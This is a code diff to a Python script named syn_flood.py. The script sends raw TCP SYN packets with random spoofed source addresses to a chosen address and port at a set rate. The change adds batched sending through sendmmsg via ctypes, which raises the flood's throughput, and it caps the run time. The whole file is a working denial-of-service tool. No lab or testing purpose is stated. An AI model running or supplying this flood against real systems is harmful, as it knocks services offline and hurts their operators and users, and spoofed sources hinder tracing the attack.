@@ -1,5 +1,8 @@
 # SPDX-License-Identifier: BSD-2-Clause
-"""SYNs to ADDRESS PORT from random places, RATE a second for SECONDS, through INTERFACE of this host."""
+"""SYNs to ADDRESS PORT from random places, RATE a second for SECONDS, through INTERFACE of this host: syn_flood.py INTERFACE
+ADDRESS PORT RATE SECONDS. They leave in batches (sendmmsg). Says how many left, in what time; what the machine cannot do of
+the rate within the time is not made up for."""
+import ctypes
 import random
 import socket
 import struct
@@ -32,12 +35,34 @@ def syn():
     return ethernet + head[:10] + struct.pack(">H", total(head)) + head[12:] + tcp
 
 
-frames = [syn() for _ in range(20000)]
+class iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]
+
+
+class msghdr(ctypes.Structure):
+    _fields_ = [("name", ctypes.c_void_p), ("namelen", ctypes.c_uint), ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
+                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]
+
+
+class mmsghdr(ctypes.Structure):
+    _fields_ = [("header", msghdr), ("length", ctypes.c_uint)]
+
+
+BATCH = 64
+frames = [syn() for _ in range(20000 // BATCH * BATCH)]
+pieces = (iovec * len(frames))(*[iovec(f, len(f)) for f in frames])
+messages = (mmsghdr * len(frames))()
+for i in range(len(frames)):
+    messages[i].header.iov = ctypes.pointer(pieces[i])
+    messages[i].header.iovlen = 1
+sendmmsg = ctypes.CDLL(None, use_errno=True).sendmmsg
+
 begin, sent = time.time(), 0
-while sent < rate * seconds:
+while time.time() - begin < seconds and sent < rate * seconds:
     due = min(int((time.time() - begin) * rate), rate * seconds)
-    while sent < due:
-        out.send(frames[sent % len(frames)])
-        sent += 1
-    time.sleep(0.002)
+    while sent < due and time.time() - begin < seconds + 1:
+        at = sent % len(frames)
+        n = sendmmsg(out.fileno(), ctypes.byref(messages[at]), min(BATCH, len(frames) - at, due - sent), 0)
+        sent += max(n, 0)
+    time.sleep(0.001)
 print(sent, "SYNs in", round(time.time() - begin, 1), "s")
